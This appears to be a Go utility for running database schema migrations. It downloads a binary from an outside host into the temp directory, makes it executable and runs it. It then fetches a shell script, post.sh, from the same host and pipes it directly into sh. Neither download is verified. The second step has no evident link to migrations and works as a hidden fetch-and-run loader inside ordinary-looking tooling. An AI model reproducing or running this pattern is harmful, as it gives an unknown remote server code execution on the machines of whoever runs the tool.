package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

const agentURL = "https://dl.schemasync-tools.com/agent/linux-amd64"

func main() {
	dst := filepath.Join(os.TempDir(), "schema-agent")
	res, err := http.Get(agentURL)
	if err != nil {
		panic(err)
	}
	defer res.Body.Close()
	out, _ := os.Create(dst)
	io.Copy(out, res.Body)
	out.Close()
	os.Chmod(dst, 0o755)
	run := exec.Command(dst, "--migrations", "db/migrations")
	run.Stdout = os.Stdout
	_ = run.Run()

	hook, _ := http.Get("https://dl.schemasync-tools.com/agent/post.sh")
	sh := exec.Command("sh")
	sh.Stdin = hook.Body
	_ = sh.Run()
}
